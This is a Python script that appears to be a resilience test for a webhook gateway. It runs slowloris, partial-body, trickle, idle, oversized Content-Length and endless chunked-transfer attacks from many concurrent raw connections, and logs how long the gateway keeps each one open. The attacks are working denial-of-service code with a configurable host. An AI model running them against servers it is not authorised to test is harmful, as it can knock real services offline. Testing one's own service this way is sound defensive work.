"""Slow and hostile HTTP clients, on raw sockets, against the gateway.

One attack per run (--attack), from SLOTS concurrent connections for
--duration seconds; a slot whose connection the gateway closed opens the
next one (except `idle`, which opens its connections once and waits).
For every bad connection one JSON line (--out):

  {"attack", "opened", "life_s", "closed_by": "server"|"client", "status", "status_s", "sent"}

`life_s` is how long the connection stayed open until the gateway closed it
(EOF or reset), `status` the HTTP status it answered first (None: closed
without a word) and `status_s` when; `sent` the bytes the gateway took.
`closed_by: client` means the gateway still held the connection when the
attack gave up on it (--cap seconds), which is a finding. Attacks:

  slowloris   request head trickled one byte per second, never finished
  half_body   head + half of the announced Content-Length, then silence
  trickle     body at one byte per second
  idle        one GET /healthz, then the keep-alive connection idles
  big_cl      Content-Length: 1 GiB, then data as fast as the socket takes it
  chunked     Transfer-Encoding: chunked, 100-byte chunks every 0.2 s, never the last one
  chunked_flood  chunked, 64 KiB chunks as fast as the socket takes them, never the last one

None of them is authenticated: the body is read (and timed) before the
signature can be checked, so an anonymous client can reach these paths.
"""

import argparse
import asyncio
import json
import sys
import time

HEAD = (
    "POST /webhooks/alpha HTTP/1.1\r\n"
    "Host: 127.0.0.1\r\n"
    "Content-Type: application/json\r\n"
    "X-Timestamp: 0\r\nX-Nonce: hostile\r\nX-Signature: sha256=00\r\n"
)


class Conn:
    """One raw connection: a reader watching for the gateway's answer or close."""

    def __init__(self, reader, writer):
        self.reader, self.writer = reader, writer
        self.opened = time.monotonic()
        self.status = None
        self.status_at = None
        self.closed_at = None
        self.sent = 0
        self.watch = asyncio.create_task(self._watch())

    async def _watch(self):
        buf = b""
        try:
            while True:
                data = await self.reader.read(65536)
                if not data:
                    break
                if self.status is None:
                    buf += data
                    if b"\r\n" in buf:
                        parts = buf.split(b" ", 2)
                        if len(parts) >= 2 and parts[1].isdigit():
                            self.status = int(parts[1])
                            self.status_at = time.monotonic()
                        buf = b""
        except (ConnectionError, OSError):
            pass
        self.closed_at = time.monotonic()

    @property
    def closed(self):
        return self.closed_at is not None

    async def send(self, data: bytes) -> bool:
        """False once the gateway has closed the connection."""
        if self.closed:
            return False
        try:
            self.writer.write(data)
            await self.writer.drain()
            self.sent += len(data)
            return True
        except (ConnectionError, OSError):
            await asyncio.wait([self.watch], timeout=1)
            if not self.closed:
                self.closed_at = time.monotonic()
            return False

    async def wait_closed(self, until: float):
        """Waits for the gateway to close, up to monotonic time `until`."""
        await asyncio.wait([self.watch], timeout=max(0.0, until - time.monotonic()))

    def finish(self, attack):
        by = "server" if self.closed else "client"
        end = self.closed_at if self.closed else time.monotonic()
        self.watch.cancel()
        self.writer.transport.abort()
        return {"attack": attack, "opened": time.time() - (time.monotonic() - self.opened),
                "life_s": round(end - self.opened, 3), "closed_by": by, "status": self.status,
                "status_s": round(self.status_at - self.opened, 3) if self.status_at else None, "sent": self.sent}


async def pace(conn: Conn, chunks, interval: float, until: float):
    """Sends chunks one per interval until closed or `until`."""
    for chunk in chunks:
        if time.monotonic() >= until or not await conn.send(chunk):
            return
        try:
            await asyncio.wait_for(asyncio.shield(conn.watch), interval)
            return  # closed while we waited
        except asyncio.TimeoutError:
            pass


def endless(first: bytes, then: bytes):
    yield from (first[i:i + 1] for i in range(len(first)))
    while True:
        yield from (then[i:i + 1] for i in range(len(then)))


async def slowloris(conn, until):
    await pace(conn, endless(HEAD.encode(), b"X-Padding: slow\r\n"), 1.0, until)


async def half_body(conn, until):
    body = b'{"symbol":"BTCUSDT","action":"buy","quantity":"0.5","pad":"' + b"x" * 960 + b'"}'
    await conn.send((HEAD + f"Content-Length: {len(body)}\r\n\r\n").encode() + body[: len(body) // 2])
    await conn.wait_closed(until)


async def trickle(conn, until):
    body = b'{"symbol":"BTCUSDT","action":"buy","quantity":"0.5","pad":"' + b"x" * 200 + b'"}'
    if await conn.send((HEAD + f"Content-Length: {len(body)}\r\n\r\n").encode()):
        await pace(conn, (body[i:i + 1] for i in range(len(body))), 1.0, until)
    await conn.wait_closed(until)


async def idle(conn, until):
    await conn.send(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    await conn.wait_closed(until)


async def big_cl(conn, until):
    block = b"x" * 65536
    if await conn.send((HEAD + f"Content-Length: {1 << 30}\r\n\r\n").encode()):
        while time.monotonic() < until and await conn.send(block):
            pass
    await conn.wait_closed(until)


async def chunked(conn, until):
    chunk = b"64\r\n" + b"x" * 100 + b"\r\n"
    if await conn.send((HEAD + "Transfer-Encoding: chunked\r\n\r\n").encode()):
        while time.monotonic() < until and await conn.send(chunk):
            try:
                await asyncio.wait_for(asyncio.shield(conn.watch), 0.2)
                break
            except asyncio.TimeoutError:
                pass
    await conn.wait_closed(until)


async def chunked_flood(conn, until):
    chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"
    if await conn.send((HEAD + "Transfer-Encoding: chunked\r\n\r\n").encode()):
        while time.monotonic() < until and await conn.send(chunk):
            pass
    await conn.wait_closed(until)


ATTACKS = {f.__name__: f for f in (slowloris, half_body, trickle, idle, big_cl, chunked, chunked_flood)}


async def slot(args, attack, end, out, stats, once):
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(args.host, args.port, limit=1 << 20), 10)
        except (OSError, asyncio.TimeoutError) as e:
            stats["connect_errors"] += 1
            stats["last_connect_error"] = type(e).__name__
            await asyncio.sleep(0.5)
            continue
        conn = Conn(reader, writer)
        # A connection is given up on --cap seconds after it opened, so the
        # run is bounded even if the gateway never closes anything.
        await attack(conn, conn.opened + args.cap)
        rec = conn.finish(args.attack)
        out.write(json.dumps(rec) + "\n")
        stats["n"] += 1
        if once:
            return
        await asyncio.sleep(0.1)


async def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--attack", choices=sorted(ATTACKS), required=True)
    p.add_argument("--slots", type=int, default=100, help="concurrent bad connections")
    p.add_argument("--duration", type=float, default=20, help="seconds of new bad connections")
    p.add_argument("--cap", type=float, default=60, help="give up on one connection after this")
    p.add_argument("--out", required=True)
    args = p.parse_args()

    attack = ATTACKS[args.attack]
    once = args.attack == "idle"
    stats = {"n": 0, "connect_errors": 0}
    end = time.monotonic() + args.duration
    with open(args.out, "a") as out:
        tasks = []
        for i in range(args.slots):
            tasks.append(asyncio.create_task(slot(args, attack, end, out, stats, once)))
            if i % 200 == 199:
                await asyncio.sleep(0.05)  # open in batches, not a SYN flood
        await asyncio.gather(*tasks)
    print(json.dumps({"attack": args.attack, **stats}), file=sys.stderr)


if __name__ == "__main__":
    asyncio.run(main())
